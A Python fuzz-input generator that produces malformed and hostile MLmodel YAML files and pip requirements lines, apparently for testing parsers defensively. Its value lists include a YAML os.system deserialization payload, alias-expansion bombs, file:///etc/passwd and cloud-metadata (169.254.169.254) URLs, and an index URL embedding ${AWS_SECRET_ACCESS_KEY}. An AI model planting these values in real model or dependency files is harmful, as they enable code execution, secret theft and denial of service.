"""Generates MLmodel files and requirement lines as an attacker would write them: damaged, nested, huge, mistyped."""

from __future__ import annotations

import random

_MLMODEL = """artifact_path: model
flavors:
  python_function:
    env: {conda: conda.yaml, virtualenv: python_env.yaml}
    loader_module: mlflow.sklearn
    python_version: 3.11.7
  tensorflow:
    keras_backend: tensorflow
    model_type: keras
mlflow_version: 3.4.0
model_id: m-0123
run_id: 0123456789abcdef
signature:
  inputs: '[{"type": "tensor", "tensor-spec": {"dtype": "float32", "shape": [-1, 64, 64, 3]}}]'
  outputs: null
utc_time_created: '2026-01-02 03:04:05.678901'
metadata: {license: MIT}
"""
_KEYS = (
    "flavors",
    "run_id",
    "signature",
    "inputs",
    "mlflow_version",
    "utc_time_created",
    "metadata",
    "license",
    "<<",
    "python_function",
    "python_version",
    "tensorflow",
    "keras_backend",
)
_VALUES = (
    "null",
    "~",
    "",
    "{}",
    "[]",
    "[1, 2]",
    "{a: 1}",
    "true",
    "3.10",
    "1e999",
    ".nan",
    "0x" + "f" * 5000,
    "9" * 5000,
    ":".join(["1"] * 3000),
    "2001-99-99",
    "!!python/object/apply:os.system [id]",
    "!!int x",
    "!!bool maybe",
    "!!timestamp x",
    "!!binary '%%'",
    "!!set {a, b}",
    "!!float []",
    "&a [*a]",
    "&b {*b : *b}",
    "*missing",
    "? [x]\n: y",
    "'[{\"tensor-spec\": []}]'",
    '\'[{"tensor-spec": {"shape": 7}}]\'',
    "'[1, 2]'",
    "'{'",
    "'" + "[" * 3000 + "'",
    '\'[{"tensor-spec": {"shape": [-1, 1, 1, ' + "9" * 5000 + "]}}]'",
    "'\u202e'",
    '"\\0"',
    "'" + "x" * 9000 + "'",
)
_PACKAGES = (
    "numpy",
    "mlflow",
    "mlflow[extras]",
    "Pillow",
    "pillow",
    "pandas",
    "torch",
    "tensorflow",
    "a" * 300,
    "é",
    "x_y",
    "bentoml",
    "xgboost",
    "opencv-python",
    "mlflow-skinny",
    "httptools",
)
_SPECIFIERS = (
    "",
    "==1",
    "==1.*",
    ">=1,<2",
    "===weird",
    "~=1.1",
    "!=1",
    "==" + "9" * 1500,
    "== 1.0.post1.dev2+local",
    "<1!2",
    "==1.*,==2.*",
    ">=",
    "==",
    "<=11.2",
    "==0",
    "<0",
    "===1.*",
    ">1.*",
    "==" + "1." * 700 + "1",
)
_URLS = (
    "https://h.example/x-1-py3-none-any.whl",
    "https://h.example/x.tar.gz",
    "file:///etc/passwd",
    "FILE:///x",
    "./x",
    "/x",
    "git+https://h.example/x",
    "GIT+ssh://h.example/x",
    "http://169.254.169.254/x.whl",
    "https://[",
    "https://a:b@h/x.whl",
    "${HOME}/x",
    "https://h.example/x.whl#sha256=0",
    "\\\\h\\x",
    "data:,x",
)
_OPTIONS = (
    "--index-url https://h.example/simple",
    "-i http://h.example",
    "--extra-index-url=file:///x",
    "-f /x",
    "-r x",
    "--find-links https://h.example",
    "-c constraints.txt",
    "-e .",
    "--pre",
    "--no-binary :all:",
    "--trusted-host h",
    "--hash=sha256:0",
    "--extra-index-url https://${AWS_SECRET_ACCESS_KEY}.example",
)
_MARKERS = (
    "python_version >= '3'",
    "(" * 40 + "os_name == 'x'" + ")" * 40,
    "extra == 'a'",
    "sys_platform == ",
    "'a' in 'b'",
    " and ".join(["os_name == 'posix'"] * 60),
    "python_version > '" + "9" * 900 + "'",
)


def mlmodel(seed: int) -> bytes:
    """Returns an MLmodel file: a real one with damage, hostile values, or a bomb."""
    chance = random.Random(seed)
    kind = chance.randrange(8)
    if kind == 0:
        return chance.randbytes(chance.randrange(2000))
    if kind == 1:
        return _bomb(chance).encode()
    if kind == 2:
        opening, levels = (
            chance.choice(["[", "{a: ", "- ", "? ", "{? ", "&a [", "!!x ["]),
            chance.choice([30, 60, 5000, 200_000]),
        )
        return f"flavors: {{python_function: {{}}}}\nrun_id: {opening * levels}".encode()
    if kind == 3:
        line = chance.choice(
            ["- a\n", "# x\n", "k%d: v\n", "\n", "  \t\n", "*a\n", "&a b\n", "'", '"\\x41', "a" * 70, "---\n"]
        )
        many = chance.choice([100, 20_000, 300_000])
        return ("flavors: {python_function: {}}\nx:\n" + (line * many)[: 1 << 20]).encode()
    lines = _MLMODEL.splitlines()
    leaves = [number for number, line in enumerate(lines) if not line.endswith(":")]
    for place in chance.sample(leaves, chance.randrange(1, 4)):
        own, _, _ = lines[place].partition(":")
        key = own if chance.random() < 0.7 else own[: len(own) - len(own.lstrip())] + chance.choice(_KEYS)
        lines[place] = f"{key}: {chance.choice(_VALUES)}"
    text = "\n".join(lines).encode()
    if kind == 4:
        start = chance.randrange(len(text))
        text = text[:start] + chance.randbytes(chance.randrange(4)) + text[start + chance.randrange(4) :]
    return text


def _bomb(chance: random.Random) -> str:
    """Returns aliases in several levels, each a list or mapping of the level below."""
    levels, width = chance.randrange(2, 12), chance.randrange(2, 40)
    text = ["flavors: {python_function: {}}", "a0: &a0 " + chance.choice(["[x]", "{k: v}", "x" * 1000])]
    for level in range(1, levels):
        parts = [f"*a{level - 1}"] * width
        merged = "{" + ", ".join(f"<<{number}: {part}" for number, part in enumerate(parts)) + "}"
        text.append(f"a{level}: &a{level} " + chance.choice([f"[{', '.join(parts)}]", merged]))
    text.append(f"{chance.choice(_KEYS)}: *a{levels - 1}")
    return "\n".join(text)


def requirements(seed: int) -> bytes:
    """Returns a requirements file of a few hostile lines, or of very many."""
    chance = random.Random(seed)
    if chance.random() < 0.02:
        return (_line(chance) + "\n").encode("utf-8", "surrogatepass") * chance.choice([900, 3000])
    lines = [_line(chance) for _ in range(chance.randrange(1, 8))]
    return "\n".join(lines).encode("utf-8", "surrogatepass")


def _line(chance: random.Random) -> str:
    kind = chance.randrange(6)
    if kind == 0:
        return chance.choice(_OPTIONS)
    if kind == 1:
        letters = "abcxyz019.-_=<>!~[](),;@'\"#\\$/ \t\x00\u2028é"
        return "".join(chance.choices(letters, k=chance.randrange(60)))
    name = chance.choice(_PACKAGES)
    line = f"{name} @ {chance.choice(_URLS)}" if kind == 2 else f"{name}{chance.choice(_SPECIFIERS)}"
    if chance.random() < 0.3:
        line += f" ; {chance.choice(_MARKERS)}"
    if chance.random() < 0.1:
        place = chance.randrange(len(line))
        line = line[:place] + chance.choice("()[]\\#;@") * chance.choice([1, 30]) + line[place:]
    return line
